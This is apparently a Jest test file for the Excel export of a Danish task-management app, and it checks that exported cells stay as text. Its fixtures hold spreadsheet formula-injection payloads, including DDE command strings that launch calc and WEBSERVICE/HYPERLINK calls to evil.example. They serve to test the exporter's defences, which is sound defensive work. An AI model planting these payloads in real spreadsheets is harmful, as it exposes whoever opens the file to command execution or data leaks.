import { describe, expect, test } from '@jest/globals'
import { unzipSync } from 'fflate'
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { readFile } from '../../src/exchange/readFile.js'
import { taskSheet, type SheetTask } from '../../src/exchange/taskSheet.js'
import { writeExcel, type Column } from '../../src/exchange/writeExcel.js'
import { sofficePath } from '../support/machine.js'

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n=', '＝', '＋', '－', '＠', "'=", ' =', '"=']
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  'HYPERLINK("http://evil.example","klik")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example")',
  '1',
  '',
  '<v>1</v>',
  ']]>&amp;',
  '\u0000\u0008x',
  '😀',
]
const WORDS = ['constructor', '__proto__', 'toString', 'TRUE', '#REF!', '1e5', '2026-03-02', '_x003D_1+1']
const PAYLOADS = [...STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`)), ...WORDS]
const HOSTILE = Array.from({ length: 500 }, (_, n) => {
  const payload = PAYLOADS[n % PAYLOADS.length] ?? ''
  return n < PAYLOADS.length ? payload : `${payload}${n}`
})
const column = (kind: Column['kind'], head = '=1+1'): Column => ({ head, width: 20, kind })

const book = (texts: readonly string[]) =>
  writeExcel({
    sheet: '=1/[x]',
    columns: [column('text')],
    rows: texts.map((text) => [text]),
    remark: '=2+2',
  })
const part = (bytes: Uint8Array, name: string): string =>
  Buffer.from(unzipSync(bytes)[name] ?? new Uint8Array()).toString('utf8')

describe('a sheet', () => {
  test('has 500 hostile texts as texts, and not one formula', async () => {
    const xml = part(await book(HOSTILE), 'xl/worksheets/sheet1.xml')
    expect(xml).not.toMatch(/<f[ >/]/)
    const cells = [...xml.matchAll(/<c [^>]*>/g)].map(([cell]) => cell)
    expect(cells).toHaveLength(HOSTILE.length + 2)
    expect(cells.filter((cell) => !/ t="s"/.test(cell))).toEqual([])
  })

  test('says what it was given, but for signs no file can hold', async () => {
    const bytes = await book(HOSTILE)
    const strings = part(bytes, 'xl/sharedStrings.xml')
    expect(strings).not.toMatch(/function|\[native/)
    for (const word of WORDS) expect(strings).toContain(`>${word.replace('_x003D_', '_x005F_x003D_')}<`)
  })

  const withOffice = sofficePath ? test : test.skip
  withOffice(
    'is read by LibreOffice without a formula',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'klik-sheet-'))
      writeFileSync(join(folder, 'list.xlsx'), await book(HOSTILE))
      const run = ['--headless', `-env:UserInstallation=file://${folder}/office`, '--convert-to', 'fods']
      execFileSync(sofficePath ?? '', [...run, '--outdir', folder, join(folder, 'list.xlsx')], {
        stdio: 'ignore',
      })
      const read = readFileSync(join(folder, 'list.fods'), 'utf8')
      expect(read).not.toContain('table:formula')
      expect(read.match(/office:value-type="string"/g)?.length).toBeGreaterThanOrEqual(HOSTILE.length)
      expect(read).not.toMatch(/<table:table-cell[^>]*office:value-type="(float|date|boolean)"/)
    },
    120_000,
  )

  test('has days as dates, numbers as numbers, and heads that stay in sight', async () => {
    const rows = [
      ['2026-03-02', 140010],
      ['1066-10-14', null],
      [null, 7],
    ]
    const bytes = await writeExcel({ sheet: 'X', columns: [column('day'), column('number')], rows })
    const xml = part(bytes, 'xl/worksheets/sheet1.xml')
    expect(xml).toMatch(/<pane ySplit="1"[^>]*state="frozen"/)
    expect(xml).toMatch(/<c r="A2" s="\d+"><v>46083<\/v>/)
    expect(xml).toMatch(/<c r="B2" s="\d+"><v>140010<\/v>/)
    expect(xml).toMatch(/<c r="A3"[^>]* t="s"/)
    expect(part(bytes, 'xl/styles.xml')).toContain('dd-mm-yyyy')
  })
})

const TASK: SheetTask = {
  number: 140010,
  title: '=Tæl nøglerne',
  project: { id: 'p', name: 'KLIK' },
  municipality: { name: 'Korsbæk' },
  phase: 'Udrulning',
  theme: null,
  marker: 'YELLOW',
  priority: 'RECOMMENDED',
  status: 'STARTED',
  startDate: '2026-01-02',
  endDate: '2026-01-24',
  responsible: { name: 'Bo Dahl' },
  executor: null,
}

describe('the task list as a sheet', () => {
  const reader = { language: 'da', withMunicipality: false, userTypes: new Map([['p', 'PLUS']]) } as const

  test('is what the importer reads: the same tasks come back', async () => {
    const sheet = taskSheet([TASK], { total: 1, reader })
    const { tasks, faults } = await readFile(await writeExcel(sheet))
    expect(faults).toEqual([])
    expect(tasks).toMatchObject([
      {
        instanceNumber: 140010,
        title: '=Tæl nøglerne',
        project: 'KLIK',
        phase: 'Udrulning',
        theme: null,
        priority: 'RECOMMENDED',
        status: 'STARTED',
        startDate: '2026-01-02',
        endDate: '2026-01-24',
        responsible: 'Bo Dahl',
        executor: null,
      },
    ])
  })

  test('says above its heads what was left out, and for KOMBIT whose task it is', () => {
    const sheet = taskSheet([TASK], { total: 20_345, reader: { ...reader, withMunicipality: true } })
    expect(sheet.remark).toBe('Her er de første 1 af 20345 opgaver. Filtrér listen for at få resten.')
    expect(sheet.columns.at(-1)?.head).toBe('KOMMUNE')
    expect(sheet.rows[0]?.at(-1)).toBe('Korsbæk')
    expect(taskSheet([TASK], { total: 1, reader }).remark).toBeNull()
  })
})
